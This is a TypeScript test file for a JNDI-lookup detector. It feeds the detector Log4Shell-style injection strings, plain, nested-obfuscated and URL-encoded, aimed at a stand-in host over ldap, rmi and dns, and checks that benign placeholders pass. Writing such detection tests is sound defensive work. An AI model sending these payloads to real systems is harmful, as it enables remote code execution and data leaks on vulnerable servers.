// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the payloads are literal `${…}` lookups and templates.
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { viewsOf } from '../../decode/views.ts';
import type { InputKind } from '../../types.ts';
import { jndiDetector } from './jndi.ts';

/** The strongest score the detector gives one value. */
function strongest(value: string, kind: InputKind = 'query', location = 'query.q'): number {
  return Math.max(0, ...jndiDetector.detect(viewsOf(value), kind, location).map((hit) => hit.score));
}

/** The rules the detector reports for one value. */
function rules(value: string, kind: InputKind = 'query', location = 'query.q'): string[] {
  return jndiDetector.detect(viewsOf(value), kind, location).map((hit) => hit.rule);
}

describe('jndi detector', () => {
  test('finds plain and nested-obfuscated JNDI lookups', () => {
    for (const attack of [
      '${jndi:ldap://evil.example/a}',
      '${${lower:j}ndi:ldap://evil.example/a}',
      '${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/a}',
      '${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://evil.example/a}',
      '${${upper:j}${lower:N}di:dns://x}',
      '%24%7Bjndi:ldap://evil.example/a%7D',
      '${jndi:ldap://${java:version}.evil.example/a}',
    ]) {
      assert.deepEqual(rules(attack), ['jndi.lookup'], attack);
    }
  });

  test('lets template placeholders and shell variables through', () => {
    for (const benign of ['${HOME}/bin', 'Hello ${user.name}', 'jndi is a Java API']) {
      assert.equal(strongest(benign), 0, benign);
    }
  });
});
